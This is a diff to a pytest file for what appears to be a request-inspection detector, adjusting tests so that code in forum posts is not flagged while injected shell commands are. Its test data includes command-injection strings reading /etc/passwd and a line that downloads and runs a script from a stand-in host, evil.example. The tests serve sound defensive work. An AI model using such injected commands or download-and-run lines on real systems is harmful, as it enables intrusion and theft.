@@ -85,7 +85,7 @@ def test_what_acts_is_still_seen(text: bytes, fact: str) -> None:
     assert fact in facts_of(text, "query")
 
 
-POST = b"Why does this loop not stop at all?\n\nfor f in *.log; do cat $f; rm -rf /tmp/x; done\n\nThanks!"
+POST = b"Why does this loop not stop at all?\n\nfor f in *.log\ndo\n  cat $f\n  chmod 600 /var/log/$f\ndone\n\nThanks!"
 
 
 @pytest.mark.parametrize(
@@ -93,13 +93,17 @@ POST = b"Why does this loop not stop at all?\n\nfor f in *.log; do cat $f; rm -r
     [
         POST,
         b'In C:\n\nint main(void) {\n    system("pause");\n}\n\nDoes not work on Linux, why is that so?',
-        b"My Dockerfile:\n\nFROM debian\nRUN apt update && rm -rf /var/lib/apt\n\nThe image is still too large for me.",
+        b"My Dockerfile:\n\nFROM debian\nRUN apt update\nCOPY --from=a /etc/passwd /etc/passwd\n\nThe image is still too large for me.",
     ],
 )
 def test_code_on_lines_of_its_own_in_a_post_does_nothing(text: bytes) -> None:
     assert not facts_of(text, "body") & DECISIVE
     assert not facts_of(text.replace(b"\n", b"\r\n"), "body") & DECISIVE
-    assert facts_of(text, "query") & DECISIVE, "posts are sent as bodies"
+
+
+def test_posts_are_sent_as_bodies() -> None:
+    text = b'In C:\n\nint main(void) {\n    system("pause");\n}\n\nDoes not work on Linux, why is that so?'
+    assert facts_of(text, "query") & DECISIVE
 
 
 @pytest.mark.parametrize(
@@ -116,6 +120,7 @@ def test_code_on_lines_of_its_own_in_a_post_does_nothing(text: bytes) -> None:
             "xml.external_entity",
         ),
         (b"a\nb\nc; cat /etc/passwd", "shell.runs_command"),
+        (POST + b"\nx; cat /etc/passwd", "shell.runs_command"),
         (
             b"x\n\nwget http://evil.example/x -O /tmp/x; sh /tmp/x\n# one two three four five six seven eight nine",
             "shell.runs_command",
